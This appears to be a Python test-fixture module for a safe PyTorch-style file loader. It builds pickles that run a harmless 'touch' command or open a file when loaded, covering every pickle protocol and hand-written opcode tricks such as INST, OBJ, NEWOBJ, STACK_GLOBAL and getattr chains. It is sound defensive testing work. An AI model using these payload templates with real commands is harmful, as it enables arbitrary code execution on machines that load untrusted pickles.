"""Pickles that run a harmless command when Python loads them, in every way that a pickle can."""

import pickle
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from torch_files import pickled


class Attack:
    """Python calls `function(*arguments)` when it loads the pickle of this object."""

    def __init__(self, function: Callable, *arguments: Any):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def attacks(path: Path | str) -> Iterator[bytes]:
    """Pickles that create a file at `path` when Python loads them, and some that only could."""
    command = f"touch {path}"
    text = pickled(command)
    yield from (
        pickle.dumps(Attack(__import__("os").system, command), protocol) for protocol in range(6)
    )
    yield from (
        pickle.dumps({"state_dict": [Attack(eval, f"open({str(path)!r}, 'w')")]}, protocol)
        for protocol in (2, 4)
    )
    yield from (
        pickle.dumps(Attack(exec, f"open({str(path)!r}, 'w')"), protocol) for protocol in (2, 4)
    )
    yield b"(S'" + command.encode() + b"'\nios\nsystem\n."  # INST
    yield b"(cos\nsystem\n" + text + b"o."  # OBJ
    yield b"csubprocess\nPopen\n((lp0\nS'touch'\naS'" + str(path).encode() + b"'\nat\x81."  # NEWOBJ
    popen = b"\x80\x04csubprocess\nPopen\n"
    yield popen + b"((lp0\nS'touch'\naS'" + str(path).encode() + b"'\nat}\x92."  # NEWOBJ_EX
    yield b"\x80\x04" + pickled("os") + pickled("system") + b"\x93(" + text + b"tR."  # STACK_GLOBAL
    yield b"c__builtin__\ngetattr\n(cos\n__dict__\n" + pickled("system") + b"tR(" + text + b"tR."
    yield b"ccollections\nOrderedDict.__init__.__globals__\n."  # only Python follows the dots
    yield b"\x82\x01."  # EXT1
